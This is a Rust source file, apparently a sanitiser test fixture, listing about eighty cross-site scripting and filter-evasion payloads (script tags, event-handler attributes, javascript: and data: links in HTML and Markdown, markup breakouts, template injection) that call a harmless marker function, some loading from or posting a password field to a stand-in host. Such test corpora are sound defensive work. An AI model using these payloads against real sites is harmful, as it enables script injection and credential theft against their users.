//! What somebody might write to make another reader's browser run something.
//!
//! The forms follow the kinds in OWASP's cheat sheet on filter evasion and the advisories of Decidim, Discourse and Lemmy:
//! elements, attributes, addresses, Markdown, broken and nested markup, other parsing modes, templates.

/// A word that no page says by itself: where it stands as an element or an attribute's name, something came through.
pub const MARK: &str = "xq7";

/// The texts. All are short enough for a name.
pub const CORPUS: &[&str] = &[
    "<script>xq7()</script>",
    "<ScRiPt>xq7()</sCrIpT>",
    "</script><script>xq7()</script>",
    "<script src=//xq7.example></script>",
    "<script/xq7>xq7()</script>",
    "<scr<script>ipt>xq7()</script>",
    "<svg><script>xq7()</script></svg>",
    "<svg onload=xq7()>",
    "<svg/onload=xq7()//",
    "<svg><animate onbegin=xq7() attributeName=x>",
    "<svg><set onbegin=xq7()>",
    "<svg><a xlink:href='javascript:xq7()'>x</a></svg>",
    "<svg><foreignObject><iframe onload=xq7()>",
    "<math><mtext><table><mglyph><style><img src onerror=xq7()>",
    "<math href='javascript:xq7()'>x</math>",
    "<img src=x onerror=xq7()>",
    "<img/src=`x`onerror=xq7()>",
    "<img src=x onerror=\"xq7()\"",
    "\"><img src=x onerror=xq7()>",
    "'><img src=x onerror=xq7()>",
    "\" onmouseover=\"xq7()",
    "' onfocus='xq7()' autofocus='",
    "` onclick=xq7() `",
    "\" autofocus onfocus=xq7() x=\"",
    "<body onload=xq7()>",
    "<html xq7 onmouseover=xq7()>",
    "<iframe src=javascript:xq7()>",
    "<iframe srcdoc='<script>xq7()</script>'>",
    "<object data=javascript:xq7()>",
    "<embed src=javascript:xq7()>",
    "<base href=//xq7.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:xq7()'>",
    "<link rel=stylesheet href=//xq7.example>",
    "<style>@import '//xq7.example';</style>",
    "<div style=background:url(javascript:xq7())>",
    "<form action=javascript:xq7()><button>x</button></form>",
    "</form><form action=//xq7.example><input name=password>",
    "<button formaction=javascript:xq7()>x</button>",
    "<input autofocus onfocus=xq7()>",
    "<details open ontoggle=xq7()>",
    "<video><source onerror=xq7()>",
    "<audio src onerror=xq7()>",
    "<marquee onstart=xq7()>",
    "<a href=javascript:xq7()>x</a>",
    "<a href='jav&#x09;ascript:xq7()'>x</a>",
    "<a href='&#106;avascript:xq7()'>x</a>",
    "[xq7](javascript:xq7())",
    "[xq7](JaVaScRiPt:xq7())",
    "[xq7](java&#115;cript:xq7())",
    "[xq7](data:text/html,<script>xq7()</script>)",
    "[xq7](vbscript:xq7())",
    "[xq7](//xq7.example \"onclick=xq7()\")",
    "[x](https://e.org \"\" onclick=xq7())",
    "[xq7]: javascript:xq7() (x)",
    "![xq7](x\"onerror=\"xq7())",
    "![xq7](javascript:xq7())",
    "<javascript:xq7()>",
    "<https://e.org/\"onclick=xq7()//>",
    "`</code><script>xq7()</script>`",
    "```\n</pre><script>xq7()</script>",
    "</textarea><script>xq7()</script>",
    "</title><script>xq7()</script>",
    "</option></select><script>xq7()</script>",
    "<noscript><p title='</noscript><img src onerror=xq7()>'>",
    "<template><script>xq7()</script></template>",
    "<!--><script>xq7()</script>-->",
    "<!--<img src='--><img src=x onerror=xq7()//'>",
    "<![CDATA[><script>xq7()</script>]]>",
    "<?xq7 ><script>xq7()</script>",
    "<xss onpointerover=xq7()>x</xss>",
    "&lt;script&gt;xq7()&lt;/script&gt;",
    "&#60;img src=x onerror=xq7()&#62;",
    "%3Cscript%3Exq7()%3C/script%3E",
    "\\u003cscript\\u003exq7()\\u003c/script\\u003e",
    "{{constructor.constructor('xq7()')()}}",
    "${xq7()}",
    "=HYPERLINK(\"//xq7.example\")",
    "javascript:xq7()//",
    "<leptos-island data-component=xq7 data-props=xq7>",
    "xq7\u{2028}<img src=x onerror=xq7()>",
];

/// All at once, as one text of several lines.
pub fn everything() -> String {
    CORPUS.join("\n\n")
}

/// What breaks out of a text, an attribute, a title, a field, a list or a comment, as one text.
pub fn breakouts() -> String {
    let closing = ["\">", "'>", "\" on", "</t", "</o", "</s", "<!--", "<script", "<img"];
    let chosen: Vec<&str> =
        CORPUS.iter().copied().filter(|text| closing.iter().any(|start| text.starts_with(start))).collect();
    chosen.join(" ")
}
